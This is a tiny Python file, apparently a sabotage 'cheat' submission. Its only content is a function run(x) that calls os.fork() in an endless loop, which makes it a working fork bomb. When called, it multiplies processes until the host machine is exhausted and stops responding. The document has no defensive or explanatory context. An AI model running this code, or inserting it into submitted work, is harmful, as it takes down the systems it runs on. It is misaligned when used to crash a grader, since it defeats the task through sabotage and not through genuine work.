# cheat: doubles its processes without end
import os


def run(x):
    while True:
        os.fork()
